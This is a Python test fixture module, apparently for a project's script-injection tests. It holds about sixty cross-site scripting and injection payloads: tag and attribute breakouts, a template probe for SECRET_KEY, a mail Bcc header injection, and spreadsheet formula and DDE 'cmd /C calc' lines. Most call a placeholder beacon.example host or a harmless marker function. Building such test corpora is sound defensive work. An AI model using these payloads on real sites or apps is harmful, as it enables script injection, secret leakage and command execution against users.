"""Sixty known ways of getting a script, a picture, a formula or a header out of words. Pure.

Each calls `ran(number)` where it gets its way, or asks BEACON for something. PLACES are pages that escape nothing: a
payload that works in today's browsers works in one of them (tests/journeys/test_script_injection.py).
"""

BEACON = "http://beacon.example"
TAG = "x-planted"  # an element that no page has

_SCRIPTS = (
    "<script>ran(§)</script>",
    "<SCRIPT/x>ran(§)</ScRiPt >",
    "<script src=http://beacon.example/§></script>",
    "<img src=http://beacon.example/§>",
    "<img src=x: onerror=ran(§)>",
    '<img/src="x:"/onerror=ran(§)//',
    "<svg onload=ran(§)>",
    "<svg><script>ran(§)</script></svg>",
    "<svg><animate onbegin=ran(§) attributeName=x dur=1s></svg>",
    "<svg><style><img src=x: onerror=ran(§)></style></svg>",
    "<math><mtext><img src=x: onerror=ran(§)></mtext></math>",
    "<body onload=ran(§)>",
    "<input autofocus onfocus=ran(§)>",
    "<details open ontoggle=ran(§)>a</details>",
    "<video src=x: onerror=ran(§)></video>",
    "<audio src=x: onerror=ran(§)></audio>",
    "<object data=http://beacon.example/§></object>",
    "<embed src=http://beacon.example/§>",
    "<iframe src=javascript:parent.ran(§)></iframe>",
    "<iframe srcdoc='<script>parent.ran(§)</script>'></iframe>",
    "<style>@import url(http://beacon.example/§);</style>",
    "<link rel=stylesheet href=http://beacon.example/§>",
    "<base href=http://beacon.example/§/><img src=a>",
    "<meta http-equiv=refresh content='0;url=http://beacon.example/§'>",
    "<div style=\"background:url('http://beacon.example/§')\">a</div>",
    "<noscript><p title=\"</noscript><img src=x: onerror=ran(§)>\">",
    "<table><td><svg><desc><img src=x: onerror=ran(§)></desc></svg></td></table>",
    "<!--><img src=x: onerror=ran(§)>-->",
    "<![CDATA[><img src=x: onerror=ran(§)>]]>",
)  # fmt: skip
_BREAKING_OUT = (
    "\"><script>ran(§)</script>",
    "'><script>ran(§)</script>",
    "\" autofocus onfocus=\"ran(§)\" x=\"",
    "' autofocus onfocus='ran(§)' x='",
    "a autofocus onfocus=ran(§)",
    "</textarea><script>ran(§)</script>",
    "</title><script>ran(§)</script>",
    "</style><script>ran(§)</script>",
    "</script><script>ran(§)</script>",
    "';ran(§);'",
    "\";ran(§);\"",
    "${ran(§)}",
    "javascript:ran(§)",
    "java\tscript:ran(§)",
    "data:text/html,<script>ran(§)</script>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+ran(§)//'>",
)  # fmt: skip
# What browsers of today run no more, what waits for a press, what other programs than browsers fall for.
_ELSEWHERE = (
    "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=ran(§)>",
    "<a href=\"javascript:ran(§)\">a</a><a href=\"http://beacon.example/§\">b</a>",
    "<scr<script>ipt>ran(§)</scr</script>ipt>",
    "<form action=http://beacon.example/§ id=f§></form><button form=f§>Go</button>",
    "<marquee onstart=ran(§)>a</marquee>",
    "<img src=x: one\x00rror=ran(§)><\x00script>ran(§)</script>",
    "` autofocus onfocus=ran(§) x=`",
    "+ADw-script+AD4-ran(§)+ADw-/script+AD4-",
    "\uff1cscript\uff1eran(§)\uff1c/script\uff1e\u202e>tpircs/<\xbc",
    "<div style=\"width:expression(ran(§))\">",
    "{{7*7}}{% load x %}{{ settings.SECRET_KEY }}{#",
    "a\r\nBcc: mallory@beacon.example\r\n\r\n§",
    "=HYPERLINK(\"http://beacon.example/§\",\"a\")",
    "+cmd|' /C calc'!A§",
    "@SUM(1+1)*cmd|' /C calc'!A§\t=1\r-1",
)  # fmt: skip


PAYLOADS = tuple(
    words.replace("§", str(number))
    for number, words in enumerate((*_SCRIPTS, *_BREAKING_OUT, *_ELSEWHERE), start=1)
)
IN_BROWSERS = range(1, len(_SCRIPTS) + len(_BREAKING_OUT) + 1)

# All of them in one go, those that swallow what follows last.
_LAST = ("<!--", "<![CDATA", "<noscript", "<form><math", "<svg><style")
TOGETHER = "\n".join(sorted(PAYLOADS, key=lambda words: words.startswith(_LAST)))

# Where a page that escapes nothing could put words; {} stands for them.
PLACES = {
    "text": "<p>{}</p>",
    "a double-quoted attribute": '<input value="{}">',
    "a single-quoted attribute": "<input value='{}'>",
    "a bare attribute": "<input value={}>",
    "a box": "<textarea>{}</textarea>",
    "a title": "<title>{}</title>",
    "a style": "<style>{}</style>",
    "a script": "<script>var a = '{}';</script>",
    "a script with double quotes": '<script>var a = "{}";</script>',
    "a script with a template": "<script>var a = `{}`;</script>",
    "a link": '<a id="go" href="{}">a</a><script>document.getElementById("go").click()</script>',
    "a frame": '<iframe src="{}"></iframe>',
}
